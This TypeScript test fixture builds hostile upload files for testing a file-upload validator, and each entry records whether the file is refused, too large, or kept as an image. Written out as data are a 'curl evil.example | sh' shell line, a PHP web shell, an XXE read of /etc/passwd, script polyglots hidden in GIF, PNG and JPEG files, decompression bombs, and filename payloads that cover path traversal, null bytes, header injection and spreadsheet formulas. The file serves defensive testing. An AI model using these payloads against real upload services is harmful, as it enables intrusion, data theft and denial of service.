/**
 * Files that somebody sends to do harm. Each says what becomes of it: the kind of the refusal, or the type as which it is
 * kept. Of what is kept as an image nothing but the picture may be left: `MARK` stands in whatever was hidden in one.
 */
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { animation, PDF, picture } from './pictures.ts';
import type { FileToSend } from './sending-files.ts';

export type HostileFile = FileToSend & {
  title: string;
  becomes:
    | 'file-refused'
    | 'file-too-large'
    | 'image/png'
    | 'image/jpeg'
    | 'image/gif'
    | 'image/webp'
    | 'application/pdf';
  /** Where it is not what is sent: what is announced. */
  announced?: number;
};

export const MARK = 'alert(document.domain)';

const TYPES = { png: 'image/png', jpg: 'image/jpeg', gif: 'image/gif', webp: 'image/webp', pdf: 'application/pdf' };
type Extension = keyof typeof TYPES;

const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');
const filled = (head: Buffer | string) => Buffer.concat([Buffer.from(head as string), Buffer.alloc(6_000, 0x20)]);

/** What calls itself an image or a PDF and is something else altogether. */
const DISGUISED: Record<string, Buffer> = {
  'a Windows program': filled('MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.'),
  'a Linux program': filled(hex('7f454c46 02010100 00000000 00000000 03003e00')),
  'a macOS program': filled(hex('cffaedfe 07000001 03000000')),
  'a Java class': filled(hex('cafebabe 00000034')),
  WebAssembly: filled(hex('0061736d 01000000')),
  'a shell script': filled('#!/bin/sh\ncurl evil.example | sh\n'),
  'a batch file': filled('@echo off\r\npowershell -enc AAAA\r\n'),
  'a PHP script': filled('<?php system($_GET[0]);'),
  'an archive': filled(hex('504b0304 14000000 0800')),
  'a 7z archive': filled(hex('377abcaf271c 0004')),
  'a gzip file': gzipSync(Buffer.alloc(100_000, 65)),
  'a gzip bomb': gzipSync(Buffer.alloc(50_000_000)),
  'an old Office document': filled(hex('d0cf11e0a1b11ae1')),
  'a shortcut': filled(hex('4c000000 01140200 00000000 c0000000 00000046')),
  'a web page': filled(`<!doctype html><html><script>${MARK}</script>`),
  'a web page behind white space': filled(`\n\n   <html><body onload="${MARK}">`),
  'a web page behind a byte order mark': filled(`\ufeff<html><script>${MARK}</script>`),
  'an SVG': filled(`<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"/>`),
  'an SVG with a prolog': filled(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${MARK}</script></svg>`,
  ),
  'XML with an entity of a local file': filled(
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ),
  'a compressed SVG': gzipSync(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"/>`)),
  JavaScript: filled(MARK),
  text: filled('hello'),
  'a bitmap': filled(hex('424d 36000000 00000000 36000000 28000000')),
  'an icon': filled(hex('00000100 01001010 00000000')),
  'a Photoshop file': filled('8BPS\0\x01'),
  'a film': filled(hex('00000018 66747970 6d703432 00000000')),
  'a sound': filled(hex('49443303 00000000')),
  'a font': filled(hex('774f4632 00010000')),
  Flash: filled('CWS\x0a'),
  'a database': filled('SQLite format 3\0'),
  'a PostScript file': filled('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  'a PDF behind a web page': Buffer.concat([Buffer.from(`<html><script>${MARK}</script>`), PDF]),
  'a PDF behind white space': Buffer.concat([Buffer.from('\n\n'), PDF]),
};

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

/** A PNG of zeros; `raw` of them, whatever its header says. */
function png(width: number, height: number, { raw, depth = 8, color = 0, more = [] as Buffer[] }: PngOptions): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([depth, color, 0, 0, 0], 8);
  const signature = hex('89504e470d0a1a0a');
  const data = chunk('IDAT', deflateSync(Buffer.alloc(raw)));
  return Buffer.concat([signature, chunk('IHDR', header), ...more, data, chunk('IEND', Buffer.alloc(0))]);
}
type PngOptions = { raw: number; depth?: number; color?: number; more?: Buffer[] };

const shorter = (bytes: Buffer, part: number) => bytes.subarray(0, Math.floor(bytes.length * part));

export async function hostileFiles(): Promise<HostileFile[]> {
  const [aPng, aJpeg, aGif, aWebp] = (await Promise.all(
    (['png', 'jpeg', 'gif', 'webp'] as const).map((kind) => picture(kind, { width: 320, height: 200 })),
  )) as [Buffer, Buffer, Buffer, Buffer];
  const [tiff, avif] = await Promise.all(
    (['tiff', 'avif'] as const).map((kind) => picture(kind, { width: 64, height: 64 })),
  );
  const script = Buffer.from(`<script>${MARK}</script><?php ${MARK} ?>`);
  const extensions = Object.keys(TYPES) as Extension[];

  const file = (
    title: string,
    extension: Extension,
    bytes: Buffer,
    becomes: HostileFile['becomes'],
    more = {},
  ): HostileFile => ({
    title,
    name: `slip.${extension}`,
    contentType: TYPES[extension],
    bytes,
    becomes,
    ...more,
  });
  const named = (
    title: string,
    name: string,
    becomes: HostileFile['becomes'],
    contentType = 'image/png',
    bytes = aPng,
  ) => ({
    ...file(`${title}: ${JSON.stringify(name.slice(0, 60))}`, 'png', bytes, becomes),
    name,
    contentType,
  });

  return [
    ...Object.entries({ ...DISGUISED, 'a TIFF': tiff as Buffer, 'an AVIF': avif as Buffer }).map(([what, bytes], i) => {
      const extension = extensions[i % extensions.length] as Extension;
      return file(`${what} as ${extension}`, extension, bytes, 'file-refused');
    }),

    // Files of one allowed kind under the name of another.
    file('a PNG as jpg', 'jpg', aPng, 'file-refused'),
    file('a JPEG as png', 'png', aJpeg, 'file-refused'),
    file('a GIF as webp', 'webp', aGif, 'file-refused'),
    file('a PNG as pdf', 'pdf', aPng, 'file-refused'),
    file('a PDF as png', 'png', PDF, 'file-refused'),
    file('a PNG that is announced as a JPEG', 'png', aPng, 'file-refused', { contentType: 'image/jpeg' }),

    // Honest, and not allowed.
    named('an SVG', 'slip.svg', 'file-refused', 'image/svg+xml'),
    named('a page', 'slip.html', 'file-refused', 'text/html'),
    named('a page that is called an image', 'slip.html', 'file-refused'),
    named('a program', 'slip.exe', 'file-refused', 'application/x-msdownload'),
    named('no kind at all', 'slip.png', 'file-refused', ''),
    file('a film of 50 MB, as announced', 'png', Buffer.alloc(10), 'file-too-large', { announced: 50_000_000 }),
    file(
      'a film of 50 MB, announced as small',
      'png',
      Buffer.concat([aPng, Buffer.alloc(50_000_000)]),
      'file-too-large',
      { announced: aPng.length },
    ),
    file('one byte more than was announced', 'pdf', Buffer.concat([PDF, Buffer.alloc(1)]), 'file-too-large', {
      announced: PDF.length,
    }),
    file('less than was announced', 'pdf', PDF, 'file-refused', { announced: PDF.length + 1 }),

    // Two things at once. The picture is kept, and the other is not.
    file('a GIF that is JavaScript', 'gif', Buffer.from(`GIF89a/*${'x'.repeat(200)}*/=1;${MARK};`), 'file-refused'),
    file('a GIF with a script behind it', 'gif', Buffer.concat([aGif, script]), 'image/gif'),
    file('a GIF with a script in a comment', 'gif', gifWithComment(aGif, script), 'image/gif'),
    file('a PNG with a page behind it', 'png', Buffer.concat([aPng, script]), 'image/png'),
    file('a PNG with a script in its text', 'png', pngWithText(aPng, script), 'image/png'),
    file('a PNG with an archive behind it', 'png', Buffer.concat([aPng, filled(hex('504b0304')), script]), 'image/png'),
    file('a JPEG with a script in a comment', 'jpg', jpegWithComment(aJpeg, script), 'image/jpeg'),
    file('a JPEG with a script behind it', 'jpg', Buffer.concat([aJpeg, script]), 'image/jpeg'),
    file('a WebP with a script behind it', 'webp', Buffer.concat([aWebp, script]), 'image/webp'),
    file(
      'a PDF that runs JavaScript',
      'pdf',
      Buffer.concat([PDF, Buffer.from(`<</S/JavaScript/JS(${MARK})>>`)]),
      'application/pdf',
    ),
    file('a PDF with a page behind it', 'pdf', Buffer.concat([PDF, script]), 'application/pdf'),

    // Broken ones.
    file('nothing', 'png', Buffer.alloc(0), 'file-refused', { announced: 1 }),
    file('one byte', 'png', Buffer.from('x'), 'file-refused'),
    file('a signature alone', 'png', aPng.subarray(0, 8), 'file-refused'),
    file('half a PNG', 'png', shorter(aPng, 0.5), 'file-refused'),
    file('half a JPEG', 'jpg', shorter(aJpeg, 0.5), 'file-refused'),
    file('half a GIF', 'gif', shorter(aGif, 0.5), 'file-refused'),
    file('half a WebP', 'webp', shorter(aWebp, 0.5), 'file-refused'),
    file('noise behind a JPEG’s signature', 'jpg', filled(hex('ffd8ffe0 00104a46 494600')), 'file-refused'),
    file('noise behind a WebP’s signature', 'webp', filled('RIFF\x10\0\0\0WEBPVP8 '), 'file-refused'),
    file('a PNG without pixels', 'png', png(0, 0, { raw: 1 }), 'file-refused'),
    file('a PNG with fewer pixels than it says', 'png', png(500, 500, { raw: 1_000 }), 'file-refused'),

    // Bombs.
    file('a PNG of 50,000 × 50,000', 'png', png(50_000, 50_000, { raw: 1_000_000, depth: 1 }), 'file-refused'),
    file(
      'a PNG of 20,000 × 20,000, all there',
      'png',
      png(20_000, 20_000, { raw: 20_000 * 2_501, depth: 1 }),
      'file-refused',
    ),
    file('a PNG of 2³¹ × 2³¹', 'png', png(0x7fffffff, 0x7fffffff, { raw: 1 }), 'file-refused'),
    file('a PNG of 1 × 60,000,000', 'png', png(1, 60_000_000, { raw: 1_000 }), 'file-refused'),
    file('a PNG whose text is 100 MB', 'png', bombInText(), 'image/png'),
    file('a JPEG of 65,500 × 65,500', 'jpg', jpegOfSize(aJpeg, 65_500), 'file-refused'),
    file('a GIF whose screen is 65,535 × 65,535', 'gif', gifOfSize(aGif, 65_535), 'image/gif'),
    file('a GIF of 7,500 × 7,500', 'gif', await picture('gif', { width: 7_500, height: 7_500 }), 'file-refused'),
    file('a GIF of 600 frames', 'gif', await animation('gif', 600), 'file-refused'),

    // Names.
    named('a path', '../../../etc/cron.d/evil.png', 'image/png'),
    named('a path of Windows', '..\\..\\windows\\evil.png', 'image/png'),
    named('an absolute path', 'C:\\evil.png', 'image/png'),
    named('an encoded path', '%2e%2e%2fevil.png', 'image/png'),
    named('a zero byte', 'evil.png\0.exe', 'file-refused'),
    named('a zero byte before', 'evil.exe\0.png', 'image/png'),
    named('a second extension', 'evil.png.exe', 'file-refused'),
    named('a second extension before', 'evil.exe.png', 'image/png'),
    named('a point at the end', 'evil.png.', 'image/png'),
    named('a stream of Windows', 'evil.exe:evil.png', 'image/png'),
    named('a reading turned around', 'evil\u202egnp.exe', 'file-refused'),
    named('a reading turned around before', 'evil\u202eexe.png', 'image/png'),
    named('isolates', '\u2067evil\u2069.png', 'image/png'),
    named('invisible letters', 'evil.p\u200bn\u2060g', 'image/png'),
    named('wide letters', 'evil.ｐｎｇ', 'file-refused'),
    named('a line break', 'evil\r\nSet-Cookie: a=b\r\n\r\n.png', 'image/png'),
    named('quotation marks', 'evil"; filename="evil.exe".png', 'image/png'),
    named('markup', `<img src=x onerror=${MARK}>.png`, 'image/png'),
    named('a formula', "=cmd|'-C calc'!A1.png", 'image/png'),
    named('points alone', '....', 'image/png'),
    named('half a character', 'evil\ud83d.png', 'image/png'),
    named('a card', '4111 1111 1111 1111.png', 'image/png'),
    named('two hundred characters', `${'😀'.repeat(98)}.png`, 'image/png'),
    named('words of ours', '$t(transcript.you) {{name}}.png', 'image/png'),
  ];
}

function pngWithText(bytes: Buffer, text: Buffer): Buffer {
  const header = 8 + 25;
  const spoken = chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), text]));
  return Buffer.concat([bytes.subarray(0, header), spoken, bytes.subarray(header)]);
}

function bombInText(): Buffer {
  const text = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(100_000_000, 65))]);
  return png(10, 10, { raw: 110, more: [chunk('zTXt', text)] });
}

function jpegWithComment(bytes: Buffer, text: Buffer): Buffer {
  const marker = Buffer.alloc(4);
  marker.writeUInt16BE(0xfffe, 0);
  marker.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([bytes.subarray(0, 2), marker, text, bytes.subarray(2)]);
}

/** The frame's header is made to say so; what follows is of another size. */
function jpegOfSize(bytes: Buffer, size: number): Buffer {
  const changed = Buffer.from(bytes);
  const frame = changed.indexOf(hex('ffc0'));
  changed.writeUInt16BE(size, frame + 5);
  changed.writeUInt16BE(size, frame + 7);
  return changed;
}

function gifOfSize(bytes: Buffer, size: number): Buffer {
  const changed = Buffer.from(bytes);
  changed.writeUInt16LE(size, 6);
  changed.writeUInt16LE(size, 8);
  return changed;
}

/** Before the first extension or image, behind the table of colours. */
function gifWithComment(bytes: Buffer, text: Buffer): Buffer {
  const flags = bytes[10] ?? 0;
  const at = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0);
  const comment = Buffer.concat([hex('21fe'), Buffer.from([text.length]), text, Buffer.alloc(1)]);
  return Buffer.concat([bytes.subarray(0, at), comment, bytes.subarray(at)]);
}
